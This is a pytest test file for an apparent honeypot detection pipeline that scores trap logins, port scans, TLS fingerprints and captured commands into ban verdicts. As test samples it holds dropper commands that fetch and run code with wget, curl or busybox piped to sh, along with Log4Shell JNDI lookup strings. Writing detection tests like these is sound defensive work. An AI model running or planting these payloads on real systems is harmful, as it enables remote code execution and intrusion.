"""The detection pipeline: observations in, verdicts out, each handed to decide once."""

from __future__ import annotations

import dataclasses
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_twisted
from twisted.internet.defer import Deferred, fail
from twisted.internet.task import Clock

from honeymesh.config import (
    Config,
    DetectionConfig,
    PolicyConfig,
    SshTrapConfig,
    TlsTrapConfig,
    parse_config,
)
from honeymesh.detection.pipeline import DetectionPipeline, TrapPolicy, trap_policies
from honeymesh.detection.scoring import PayloadRules, Reputation, RulesError
from honeymesh.events import (
    Decision,
    Event,
    EventBus,
    EventId,
    JSONValue,
    Notice,
    Observation,
    Verdict,
)
from honeymesh.policy.engine import PolicyEngine
from tests.banlist_harness import T0, Harness

SRC = "198.51.100.7"
DETECTION = DetectionConfig(scan_ports=5, scan_window=10.0, slow_scan_window=100.0)
TRAPS = {
    "ssh": TrapPolicy("ssh", hit_score=0.0, login_score=100.0),
    "web": TrapPolicy("http", hit_score=0.0, login_score=0.0),
    "banner": TrapPolicy("banner", hit_score=20.0, login_score=0.0),
}


class Rig:
    def __init__(self, decide_fails: bool = False) -> None:
        self.clock = Clock()
        self.clock.advance(T0)
        self.events: list[Event] = []
        self.decided: list[Verdict] = []

        def decide(verdict: Verdict) -> object:
            self.decided.append(verdict)
            return fail(RuntimeError("policy down")) if decide_fails else None

        self.pipeline = DetectionPipeline(
            config=DETECTION,
            traps=TRAPS,
            rules=PayloadRules.shipped(),
            reputation=Reputation.shipped(),
            clock=self.clock,
            publish=self.events.append,
            decide=decide,
        )

    def observe(self, event_id: EventId, trap: str, **detail: JSONValue) -> None:
        base: dict[str, JSONValue] = {
            "trap": trap,
            "local_address": "192.0.2.1",
            "port": 22,
            "transport": "tcp",
        }
        self.pipeline(Observation(event_id, self.clock.seconds(), SRC, {**base, **detail}))

    def verdicts(self) -> list[Verdict]:
        return [e for e in self.events if isinstance(e, Verdict)]


def test_an_ssh_login_attempt_is_a_verdict_from_the_trap_named_detector() -> None:
    rig = Rig()
    rig.observe(EventId.TRAP_CREDENTIAL, "ssh", service="ssh", username="root", password="1234")
    (verdict,) = rig.decided
    assert verdict.event_id == EventId.TRAP_VERDICT and verdict.detector == "ssh"
    assert verdict.score == 100.0 and verdict.source == SRC
    assert verdict.reasons == ("login attempt on trap ssh (ssh) as 'root'",)
    assert rig.verdicts() == [verdict]  # published on the bus as well
    rig.observe(EventId.TRAP_CREDENTIAL, "ssh", service="ssh", username="root", password="12345")
    assert len(rig.decided) == 1  # not repeated within repeat_after
    rig.clock.advance(DETECTION.repeat_after)
    rig.observe(EventId.TRAP_CREDENTIAL, "ssh", service="ssh", username="root", password="x")
    assert len(rig.decided) == 2


def test_trap_contacts_across_ports_make_one_scan_verdict() -> None:
    rig = Rig()
    for port in (21, 22, 23, 25, 80, 443):
        rig.observe(EventId.TRAP_SESSION, "web", port=port)
        rig.clock.advance(0.5)
    (verdict,) = rig.decided
    assert verdict.detector == "scan" and verdict.event_id == EventId.SCAN_VERDICT
    assert verdict.score == DETECTION.scan_score
    assert verdict.evidence["ports"] == ["tcp/21", "tcp/22", "tcp/23", "tcp/25", "tcp/80"]
    assert verdict.evidence["feed"] == "trap"


def test_kernel_samples_and_trap_hits_count_together() -> None:
    rig = Rig()
    for port in (1, 2, 3):
        rig.pipeline.packet(SRC, "192.0.2.1", port, "tcp")
    rig.observe(EventId.TRAP_SESSION, "web", port=22)
    assert rig.decided == []
    rig.pipeline.packet(SRC, "192.0.2.1", 4, "udp", time=rig.clock.seconds())
    (verdict,) = rig.decided
    assert verdict.evidence["ports"] == ["tcp/1", "tcp/2", "tcp/3", "tcp/22", "udp/4"]
    assert verdict.evidence["feed"] == "kernel"


def test_dropper_commands_and_attack_requests_are_payload_verdicts() -> None:
    rig = Rig()
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="cd /tmp; wget http://203.0.113.9/x; sh x")
    rig.observe(
        EventId.TRAP_REQUEST,
        "web",
        method="GET",
        path="/",
        query="",
        headers={"User-Agent": "${jndi:ldap://203.0.113.9/a}"},
        body="",
    )
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="ls -la")  # benign: nothing
    payloads = [v for v in rig.decided if v.detector == "payload"]
    assert [v.evidence["rules"] for v in payloads] == [
        ["download-url", "world-writable-dir"],
        ["log4shell"],
    ]
    assert payloads[1].reasons == ("Log4Shell JNDI lookup (CVE-2021-44228) (log4shell, +90)",)


def test_one_source_gets_one_payload_verdict_within_repeat_after_whatever_rules_matched() -> None:
    # Issue 13: two payload.verdicts for one source 15 ms apart. Each matched different rules,
    # and the rules matched were part of what counted as "the same verdict".
    rig = Rig()
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="chmod +x x; curl http://203.0.113.9/y")
    rig.clock.advance(0.015)
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="cd /tmp; wget http://203.0.113.9/x")
    rig.observe(EventId.TRAP_CREDENTIAL, "web", username="u", password="cd /tmp; wget http://a/b")
    payloads = [v for v in rig.verdicts() if v.event_id == EventId.PAYLOAD_VERDICT]
    assert len(payloads) == 1 and len(rig.decided) == 1
    assert payloads[0].evidence["rules"] == ["download-url", "chmod-exec"]
    # A higher score within the window is a new answer for the policy, and is given.
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="echo '${jndi:ldap://203.0.113.9/a}'")
    assert [v.score > payloads[0].score for v in rig.decided[1:]] == [True]
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="echo '${jndi:ldap://203.0.113.9/b}'")
    assert len(rig.decided) == 2
    rig.clock.advance(DETECTION.repeat_after)
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="cd /tmp; wget http://203.0.113.9/x")
    assert len(rig.decided) == 3  # and again once repeat_after has passed


def test_every_detector_with_repeat_after_gives_one_verdict_per_source_in_the_window() -> None:
    rig = Rig()
    # fingerprint: two different known-bad clients from one source
    for ja4 in ("t13d201100_2b729b4bf6f3_9e7b989ebec8", "t12i190700_d83cc789557e_16bbda4055b2"):
        rig.observe(EventId.TLS_CLIENT_HELLO, "web", ja4=ja4, ja3="x")
    assert [v.detector for v in rig.decided] == ["fingerprint"]
    # scan: a port scan that is at the same moment an address sweep
    rig.decided.clear()
    for n in range(8):
        rig.pipeline.packet(SRC, f"192.0.2.{n + 10}", 1000 + n, "tcp")
    scans = [v for v in rig.decided if v.detector == "scan"]
    assert len(scans) == 1
    # a trap: two contacts, one verdict
    rig.decided.clear()
    rig.observe(EventId.TRAP_SESSION, "banner", port=2323)
    rig.observe(EventId.TRAP_SESSION, "banner", port=2324)
    assert [v.score for v in rig.decided if v.detector == "banner"] == [20.0]


def test_known_bad_ja4_is_a_fingerprint_verdict_and_known_good_is_not() -> None:
    rig = Rig()
    rig.observe(
        EventId.TLS_CLIENT_HELLO, "web", ja4="t13d201100_2b729b4bf6f3_9e7b989ebec8", ja3="x"
    )
    rig.observe(
        EventId.TLS_CLIENT_HELLO, "web", ja4="t13d1516h2_8daaf6152771_02713d6af862", ja3="y"
    )
    (verdict,) = rig.decided
    assert verdict.detector == "fingerprint" and verdict.score == 100.0
    assert verdict.evidence["label"] == "IcedID" and verdict.evidence["matched_on"] == "ja4"


def test_banner_trap_previews_are_scored_and_hit_score_gives_a_contact_verdict() -> None:
    rig = Rig()
    rig.observe(EventId.TRAP_SESSION, "banner", port=2323, preview="enable\r\nsystem\r\nshell\r\n"
                "/bin/busybox wget http://203.0.113.9/m -O- | sh\r\n")  # fmt: skip
    assert sorted(v.detector for v in rig.decided) == ["banner", "payload"]
    contact = next(v for v in rig.decided if v.detector == "banner")
    assert contact.score == 20.0 and contact.reasons == (
        "contacted trap banner (banner) on port 2323",
    )


def test_a_failing_policy_is_logged_and_detection_goes_on() -> None:
    rig = Rig(decide_fails=True)
    rig.observe(EventId.TRAP_CREDENTIAL, "ssh", service="ssh", username="a", password="b")
    rig.observe(EventId.TRAP_COMMAND, "ssh", command="curl http://x.test/a | sh")
    assert len(rig.decided) == 2
    rig.pipeline(Notice(EventId.NODE_STARTED, 0.0))  # other events are ignored
    assert len(rig.decided) == 2


def test_from_config_uses_the_traps_and_refuses_a_bad_rules_file(tmp_path: Path) -> None:
    config = parse_config({}, tmp_path / "x.toml")
    config = dataclasses.replace(
        config, traps=(SshTrapConfig(), TlsTrapConfig(name="web", login_score=0.0))
    )
    assert trap_policies(config.traps) == {
        "ssh": TrapPolicy("ssh", 0.0, 100.0),
        "web": TrapPolicy("tls", 0.0, 0.0),
    }
    (tmp_path / "rules.toml").write_text(
        "[[rule]]\nid='x'\npattern='(('\nweight=1\ndescription='d'"
    )
    bad = dataclasses.replace(config, detection=DetectionConfig(rules="rules.toml"))
    with pytest.raises(RulesError, match=r"rules\.toml: rule 'x': pattern is not a valid"):
        DetectionPipeline.from_config(bad, clock=Clock(), publish=print, decide=print)


# With the real policy engine --------------------------------------------------------------------


@pytest_twisted.async_yield_fixture
async def harness(tmp_path: Path) -> AsyncIterator[Harness]:
    h = await Harness(tmp_path / "hm.db").start()
    yield h
    await h.stop()


@pytest_twisted.ensureDeferred
async def test_scan_verdict_through_the_policy_engine_bans_the_source(harness: Harness) -> None:
    bus = EventBus()
    bus.subscribe(harness.events.append)
    engine = PolicyEngine(
        harness.banlist, harness.store, PolicyConfig(), harness.clock, bus.publish,
        initial_mode="enforce",
    )  # fmt: skip
    await engine.load()
    pending: list[Deferred[Decision]] = []
    config = dataclasses.replace(Config(), detection=DETECTION)
    pipeline = DetectionPipeline.from_config(
        config,
        clock=harness.clock,
        publish=bus.publish,
        decide=lambda v: pending.append(engine.decide(v)),
    )
    bus.subscribe(pipeline)
    for port in range(1, 6):
        pipeline.packet(SRC, "192.0.2.1", port, "tcp")
    assert len(pending) == 1
    decision = await pending[0]
    assert decision.action == "ban" and decision.duration == 3600.0
    assert decision.evidence["detector"] == "scan"
    assert [str(n) for n in harness.backend.bans] == [f"{SRC}/32"]
    assert EventId.SCAN_VERDICT in [e.event_id for e in harness.events]
